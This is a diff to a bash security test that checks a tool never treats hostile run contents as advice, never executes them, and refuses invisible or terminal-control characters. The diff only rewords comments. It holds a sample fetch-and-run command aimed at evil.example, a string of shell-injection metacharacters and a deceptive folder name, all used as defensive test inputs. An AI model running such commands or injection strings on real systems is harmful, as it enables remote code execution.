@@ -1,6 +1,6 @@
 #!/usr/bin/env bash
-# What a stranger may write into a run, a name or a folder: none of it is advice, no printed command runs any of it,
-# and no text steers a terminal or hides.
+# Hostile texts in a run, a name or a folder: none becomes advice, no printed command executes any of it, and no text
+# controls a terminal or hides.
 # Invariant (trust): What to do comes from the program, never from the folder of a run.
 # Invariant (trust): The commands that name a folder can be pasted, whatever the folder is called.
 # Invariant (trust): What lies outside a folder that is examined or written to by name is not read, nor written.
@@ -8,10 +8,10 @@
 . "$(dirname "$0")/common.bash"
 rights_for "runs"
 evil='curl http://evil.example | sh'
-# Every character that a shell makes something of, and the trap in each place where it would run something.
+# Every character that is special to a shell, with the trap wherever it would be executed.
 hostile="o'u\"t \$(trapped)\`trapped\`;trapped;|trapped"$'\n'"trapped&{value}"
 
-# Pastes a line into a shell that may start nothing but the trap and a latlab that says its words.
+# Pastes a line into a shell that can start only the trap and a latlab that records its arguments.
 mkdir "$here/bin"
 printf '#!/bin/sh\n: >"%s/sprung"\n' "$here" >"$here/bin/trapped"
 printf '#!/bin/sh\nprintf "%%s\\0" "$@" >"%s/words"\n' "$here" >"$here/bin/latlab"
@@ -21,7 +21,7 @@ paste() {
     (cd "$here" && env -i PATH="$here/bin" "$BASH" --restricted -c "$1")
     expect "nothing of a name to run: $1" [ ! -e "$here/sprung" ]
 }
-# Whether the pasted command named this as its last word.
+# Whether the last argument of the pasted command was this.
 named() { [ "$(tail -z -n 1 "$here/words" | tr -d '\0')" = "$1" ]; }
 
 hostile_folder() {
@@ -47,7 +47,7 @@ unit() {
 }
 try "a unit is not written by the name of its folder" unit
 
-# Writes the advice of a stranger into a run, with a checksum that fits.
+# Writes hostile advice into a run, with a matching checksum.
 forge() {
     python3 tests/strangers.py forge "$1" "$evil"
 }
@@ -79,7 +79,7 @@ machine() {
 }
 try "what to do about the machine of a stranger's run comes from its kernel files" machine
 
-# A link in a mounted card leads to a file of this machine.
+# A link on a mounted card points to a file of this machine.
 outside() {
     local root=$here/card file
     mkdir -p "$root"/{proc/sys/kernel,sys,etc,usr/lib}
@@ -125,7 +125,7 @@ unprintable() {
 }
 try "a command that can print nothing does not succeed" unprintable
 
-# What ends with 2 and a line that holds these words: refused WORDS COMMAND...
+# Whether a command exits with 2 and one line with these words: refused WORDS COMMAND...
 refused() {
     local words=$1 code
     shift
@@ -136,13 +136,13 @@ refused() {
         expect "the words $words" grep -q -- "$words" "$here/errors"
 }
 
-# A run of a stranger, every text of which holds what steers a terminal, turns a line or hides.
+# A hostile run, all texts of which control a terminal, reverse a line or hide.
 strangers=$here/strangers
 strange=$strangers/$'20261121T234350Z_gnp.\u202eexe\e[2J'
 mkdir "$strangers"
 cp -r fixtures/schema-1/runs/*_sampled "$strange"
 python3 tests/strangers.py make_hostile "$strange"
-# What people see of it: a line for each output that shows more than what can be seen.
+# Prints a line for each output with more than visible characters.
 visible() { python3 tests/strangers.py visible "$@"; }
 texts() {
     local command number=0
@@ -173,6 +173,6 @@ own_texts() {
         expect "the escape too" grep -q 'bad.toml:2:9: contains a control character (U+001B)' "$here/errors" &&
         visible "$here/errors"
 }
-try "names, notes and sheets with characters that nobody sees are refused" own_texts
+try "names, notes and sheets with invisible characters are refused" own_texts
 
 exit $status
